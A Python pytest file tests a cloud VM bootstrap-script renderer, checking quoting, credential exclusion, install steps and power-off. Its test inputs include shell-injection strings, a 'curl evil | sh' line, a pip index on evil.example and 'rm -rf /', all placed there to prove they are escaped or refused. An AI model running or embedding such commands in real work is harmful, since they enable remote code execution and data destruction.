"""The user data / startup script: valid bash, no credential, values that cannot escape their
quotes, and what it runs, checked by running it with recording stand-ins for Python."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from pydantic import ValidationError

from carbonshift.remote import BootstrapConfig, render_bootstrap

SPEC = "s3://bucket/jobs/tiny/r1/remote/r1/spec.json"
HOSTILE_JOB = "it's $(touch PWNED) `touch PWNED2`; touch PWNED3 \" \\ $HOME"


def recorder(path: Path) -> Path:
    """A 'python' that appends its arguments (and PYTHONPATH) to $RECORD, and for `-m venv D`
    makes D/bin/python, another recorder."""
    path.write_text(
        f"#!{sys.executable}\n"
        "import json, os, shutil, sys\n"
        "args = sys.argv[1:]\n"
        "with open(os.environ['RECORD'], 'a') as f:\n"
        "    f.write(json.dumps({'args': args, 'pythonpath': os.environ.get('PYTHONPATH', '')})"
        " + '\\n')\n"
        "if args[:2] == ['-m', 'venv']:\n"
        "    os.makedirs(os.path.join(args[2], 'bin'))\n"
        "    shutil.copy(__file__, os.path.join(args[2], 'bin', 'python'))\n"
    )
    path.chmod(0o755)
    return path


def power_switch(bin_dir: Path) -> Path:
    """`shutdown` and `poweroff` that only write down that they were called: a test runs the
    VM's script on this machine, which must never power off."""
    bin_dir.mkdir(exist_ok=True)
    for name in ("shutdown", "poweroff"):
        tool = bin_dir / name
        tool.write_text(f'#!/bin/sh\necho "{name} $*" >> "{bin_dir / "powered-off"}"\n')
        tool.chmod(0o755)
    return bin_dir / "powered-off"


def run(script: str, tmp_path: Path, emulated: bool, **env: str) -> list[dict[str, object]]:
    boot = tmp_path / "boot.sh"
    boot.write_text(script)
    record = tmp_path / "record.jsonl"
    power_switch(tmp_path / "bin")
    environ = {"PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}", "RECORD": str(record),
               "CARBONSHIFT_REMOTE_DIR": str(tmp_path / "work"), **env}
    if emulated:
        environ |= {"CARBONSHIFT_EMULATED": "1",
                    "CARBONSHIFT_PYTHON": str(recorder(tmp_path / "python"))}
    result = subprocess.run(["bash", str(boot)], cwd=tmp_path, env=environ, capture_output=True,
                            text=True, timeout=30)
    log = (tmp_path / "work" / "bootstrap.log").read_text()
    assert result.returncode == 0, log + result.stderr
    return [json.loads(line) for line in record.read_text().splitlines()]


def test_it_is_valid_bash_with_strict_mode() -> None:
    script = render_bootstrap(BootstrapConfig(code_archive="s3://b/code.tar.gz"), SPEC, "j", "r1")
    assert script.startswith("#!/bin/bash\n") and "set -euo pipefail" in script
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)
    assert "carbonshift==" in script and SPEC in script


def test_no_credential_from_the_environment_reaches_the_script(
        monkeypatch: pytest.MonkeyPatch) -> None:
    secrets = {"AWS_ACCESS_KEY_ID": "AKIAFAKEFAKEFAKE1234", "AWS_SECRET_ACCESS_KEY": "s3cr3t/Key+x",
               "AWS_SESSION_TOKEN": "FQoGZXIvYXdzEFAKETOKEN", "GOOGLE_APPLICATION_CREDENTIALS":
               "/home/me/sa-key.json", "ELECTRICITYMAPS_API_KEY": "em-key-123"}
    for name, value in secrets.items():
        monkeypatch.setenv(name, value)
    script = render_bootstrap(BootstrapConfig(code_requirement="mytrain==1.0"), SPEC, "j", "r1")
    for name, value in secrets.items():
        assert value not in script and name not in script


def test_hostile_values_stay_inside_their_quotes(tmp_path: Path) -> None:
    spec = "file:///tmp/a b/it's $(touch PWNED4)/spec.json"
    script = render_bootstrap(BootstrapConfig(), spec, HOSTILE_JOB, "r1; touch PWNED5")
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)
    calls = run(script, tmp_path, emulated=True, HOME="/nonexistent")
    assert not list(tmp_path.glob("PWNED*"))
    assert calls == [{"args": ["-m", "carbonshift.remote.agent", "--spec", spec,
                               "--spec-wait-s", "900"], "pythonpath": ""}]
    log = (tmp_path / "work" / "bootstrap.log").read_text()
    assert f"job {HOSTILE_JOB}, run r1; touch PWNED5" in log


def test_on_a_vm_it_installs_into_a_venv_then_runs_the_agent(tmp_path: Path) -> None:
    config = BootstrapConfig(install=["carbonshift[torch]==0.1.0", "torch==2.13.0"],
                             code_requirement="my train @ https://example.org/my_train-1.0.whl",
                             python=str(recorder(tmp_path / "python3")), spec_wait_s=60)
    calls = run(render_bootstrap(config, SPEC, "j", "r1"), tmp_path, emulated=False)
    venv = str(tmp_path / "work" / "venv")
    assert [c["args"] for c in calls] == [
        ["-m", "venv", venv],
        ["-m", "pip", "install", "--quiet", "--upgrade", "pip"],
        ["-m", "pip", "install", "--quiet", "carbonshift[torch]==0.1.0", "torch==2.13.0"],
        ["-m", "pip", "install", "--quiet", "my train @ https://example.org/my_train-1.0.whl"],
        ["-m", "carbonshift.remote.agent", "--spec", SPEC, "--spec-wait-s", "60"],
    ]
    # The agent ended: the instance powers off (EC2 then terminates it).
    assert (tmp_path / "bin" / "powered-off").read_text() == "shutdown -h now\n"


def test_a_failed_install_powers_the_instance_off_too(tmp_path: Path) -> None:
    failing = tmp_path / "python3"
    failing.write_text("#!/bin/sh\nexit 7\n")
    failing.chmod(0o755)
    script = render_bootstrap(BootstrapConfig(python=str(failing)), SPEC, "j", "r1")
    boot = tmp_path / "boot.sh"
    boot.write_text(script)
    switch = power_switch(tmp_path / "bin")
    done = subprocess.run(["bash", str(boot)], cwd=tmp_path, capture_output=True, text=True,
                          timeout=30, env={"PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}",
                                           "CARBONSHIFT_REMOTE_DIR": str(tmp_path / "work")})
    assert done.returncode == 7 and switch.read_text() == "shutdown -h now\n"


def test_an_emulated_instance_never_powers_this_machine_off(tmp_path: Path) -> None:
    run(render_bootstrap(BootstrapConfig(), SPEC, "j", "r1"), tmp_path, emulated=True)
    assert not (tmp_path / "bin" / "powered-off").exists()
    kept = render_bootstrap(BootstrapConfig(power_off=False), SPEC, "j", "r1")
    assert "shutdown" not in kept


def test_emulated_it_installs_nothing_and_fetches_the_code_archive(tmp_path: Path) -> None:
    config = BootstrapConfig(code_requirement="mytrain==1.0", code_archive="gs://b/code.tgz")
    calls = run(render_bootstrap(config, SPEC, "j", "r1"), tmp_path, emulated=True)
    code = str(tmp_path / "work" / "code")
    assert [c["args"] for c in calls] == [
        ["-m", "carbonshift.remote.fetch", "gs://b/code.tgz", code],
        ["-m", "carbonshift.remote.agent", "--spec", SPEC, "--spec-wait-s", "900"],
    ]
    assert calls[1]["pythonpath"] == code
    assert "not installed: mytrain==1.0" in (tmp_path / "work" / "bootstrap.log").read_text()


@pytest.mark.parametrize(("field", "value", "message"), [
    ("install", ["--index-url=https://evil.example/simple"], "is a pip option"),
    ("install", ["ok==1\ncurl evil | sh"], "control character"),
    ("install", [], "at least 1"),
    ("code_archive", "https://user:tok@host/code.tar.gz", "carries a user or password"),
    ("code_archive", "https://b.s3.amazonaws.com/c.tgz?X-Amz-Signature=abc", "signed URL"),
    ("code_requirement", " ", "empty"),
])
def test_unsafe_values_are_refused(field: str, value: object, message: str) -> None:
    with pytest.raises(ValidationError, match=message):
        BootstrapConfig.model_validate({field: value})


def test_a_spec_uri_with_a_newline_or_a_huge_script_is_refused() -> None:
    with pytest.raises(ValueError, match="control character"):
        render_bootstrap(BootstrapConfig(), SPEC + "\nrm -rf /", "j", "r1")
    many = BootstrapConfig(install=[f"package-{i}==1.0.0" for i in range(1200)])
    with pytest.raises(ValueError, match="over EC2's user-data limit of 16384"):
        render_bootstrap(many, SPEC, "j", "r1")
